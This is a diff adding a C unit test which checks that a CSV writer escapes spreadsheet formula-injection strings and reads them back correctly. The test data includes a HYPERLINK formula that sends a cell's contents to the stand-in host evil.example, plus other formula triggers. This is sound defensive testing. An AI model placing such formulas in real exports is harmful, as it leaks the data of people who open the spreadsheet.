@@ -184,6 +184,70 @@ static void test_parse_number(void **state)
 	assert_int_equal(mlfy_parse_number("1 2", &v), MLFY_EINVAL);
 }
 
+/* What mlfy_csv_write_text writes for s (static buffer). */
+static const char *written(const char *s)
+{
+	static char buf[512];
+	FILE *f;
+	memset(buf, 0, sizeof(buf));
+	f = fmemopen(buf, sizeof(buf), "w");
+	assert_non_null(f);
+	mlfy_csv_write_text(f, s);
+	assert_int_equal(fclose(f), 0);
+	return buf;
+}
+
+/* Formula injection (OWASP "CSV Injection"): text a spreadsheet would take
+ * for a formula gets a "'" in front and is quoted; other text is plain
+ * RFC 4180; what the reader gives back, less the "'", is the text. */
+static void test_write_text_neutralises_formulas(void **state)
+{
+	static const char *const formulas[] = {
+		"=HYPERLINK(\"http://evil.example/?\"&A2,\"details\")", " +1", "\t@x", "\"-2", "-0.5", "@SUM(A1)",
+		"+cmd", "\r=1", "\n=1", "  \t  x", "\r", "'=x", "'\tx", "\"'-3", "=",
+	};
+	static const char *const plain[] = { "a cat on the sofa", "n01440764/x.JPEG", "", "a=b", "1-2", "x@y",
+					      "'quoted'", "' x", "\"quoted\"", " ", "a,b" };
+	size_t i;
+	(void)state;
+
+	assert_string_equal(written("=HYPERLINK(\"http://evil.example/?\"&A2,\"details\")"),
+			    "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"details\"\")\"");
+	assert_string_equal(written(" +1"), "\"' +1\"");
+	assert_string_equal(written("\t@x"), "\"'\t@x\"");
+	assert_string_equal(written("\"-2"), "\"'\"\"-2\"");
+	assert_string_equal(written("a cat"), "a cat");
+	assert_string_equal(written("a,b"), "\"a,b\"");
+	assert_string_equal(written(""), "");
+	for (i = 0; i < sizeof(formulas) / sizeof(formulas[0]); i++) {
+		char **f;
+		size_t nf;
+		struct mlfy_csv *c;
+		struct mlfy_err err;
+		const char *w = written(formulas[i]);
+		char line[600];
+		assert_true(mlfy_csv_text_is_formula(formulas[i]));
+		assert_true(w[0] == '"' && w[1] == '\'');
+		/* read back by our reader: the field is "'" + the text, and
+		 * mlfy_csv_text_read gives the text */
+		snprintf(line, sizeof(line), "%s,1\n", w);
+		mlfy_err_clear(&err);
+		assert_int_equal(mlfy_csv_open_mem("t.csv", line, strlen(line), &c, &err), 0);
+		assert_int_equal(mlfy_csv_next(c, &f, &nf, &err), 1);
+		assert_int_equal(nf, 2);
+		assert_string_equal(mlfy_csv_text_read(f[0]), formulas[i]);
+		mlfy_csv_close(c);
+	}
+	for (i = 0; i < sizeof(plain) / sizeof(plain[0]); i++) {
+		assert_false(mlfy_csv_text_is_formula(plain[i]));
+		assert_ptr_equal(mlfy_csv_text_read(plain[i]), plain[i]);   /* nothing taken off */
+		if (!strpbrk(plain[i], ",\"\r\n"))
+			assert_string_equal(written(plain[i]), plain[i]);   /* as it is */
+	}
+	assert_false(mlfy_csv_text_is_formula(NULL));
+	assert_null(mlfy_csv_text_read(NULL));
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -192,6 +256,7 @@ int main(void)
 		cmocka_unit_test(test_memory_source),
 		cmocka_unit_test(test_resumes_after_a_bad_record),
 		cmocka_unit_test(test_parse_number),
+		cmocka_unit_test(test_write_text_neutralises_formulas),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
